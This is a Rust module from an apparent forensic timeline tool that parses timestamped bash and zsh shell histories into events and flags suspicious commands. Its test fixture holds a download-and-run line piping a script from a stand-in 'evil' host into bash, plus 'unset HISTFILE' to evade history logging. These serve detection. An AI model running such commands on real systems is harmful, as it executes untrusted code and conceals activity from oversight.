//! Shell histories that carry times: bash with `HISTTIMEFORMAT` set writes `#<epoch>` before each
//! command; zsh's extended history is `: <epoch>:<duration>;<command>`. A command with no time cannot
//! be placed on the timeline: it is kept with the unparsed lines, with that reason.

use super::heuristics::judge_command;
use super::{Context, LogError, for_each_line, num};

pub fn parse(ctx: &mut Context<'_>) -> Result<(), LogError> {
    let path = ctx.file.real.clone();
    let user = ctx
        .file
        .shown
        .strip_prefix("/home/")
        .and_then(|r| r.split('/').next())
        .or_else(|| ctx.file.shown.starts_with("/root/").then_some("root"))
        .unwrap_or("")
        .to_owned();
    let mut pending: Option<i64> = None;
    ctx.stats.lines = for_each_line(&path, |n, l, _| {
        if let Some(epoch) = l.strip_prefix('#').and_then(num::<i64>) {
            pending = Some(epoch);
            return Ok(());
        }
        let (t, cmd) = if let Some(rest) = l.strip_prefix(": ")
            && let Some((stamp, cmd)) = rest.split_once(';')
            && let Some(epoch) = stamp.split(':').next().and_then(num::<i64>)
        {
            (Some(epoch), cmd)
        } else {
            (pending, l)
        };
        // A bash entry's time applies to the command that follows it (one line; multi-line
        // commands keep the time for their continuation lines too).
        let Some(t) = t else {
            return ctx.unparsed(n, l, "shell history line without a timestamp");
        };
        let Some(micros) = t.checked_mul(1_000_000) else {
            return ctx.unparsed(n, l, "shell history timestamp out of range");
        };
        let mut e = ctx
            .event(micros, "Command Run", cmd.to_owned())
            .attr("user", user.as_str());
        if let Some(why) = judge_command(cmd) {
            e = e.flag(why);
        }
        ctx.emit(e)
    })?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use crate::timeline::logs::LogKind;
    use crate::timeline::logs::testutil::run;
    use crate::timeline::tz::Zone;

    #[test]
    fn bash_and_zsh_times_apply_to_their_commands() {
        let (c, s) = run(
            LogKind::ShellHistory,
            "/root/.bash_history",
            b"ls\n#1700000000\nid\n#1700000060\ncurl -s http://evil/x.sh | bash\n",
            0,
            &Zone::utc("t"),
        );
        assert_eq!((s.events, s.unparsed), (2, 1));
        assert_eq!(c.unparsed[0].1, "ls");
        assert_eq!(c.events[0].timestamp, 1_700_000_000_000_000);
        assert_eq!(c.events[0].attributes["user"], "root");
        assert_eq!(
            c.events[1].suspicious.as_deref(),
            Some("downloads and runs a script")
        );
        let (c, _) = run(
            LogKind::ShellHistory,
            "/home/eve/.zsh_history",
            b": 1700000100:0;unset HISTFILE\n",
            0,
            &Zone::utc("t"),
        );
        assert_eq!(c.events[0].timestamp, 1_700_000_100_000_000);
        assert_eq!(c.events[0].attributes["user"], "eve");
        assert!(c.events[0].suspicious.is_some());
    }
}
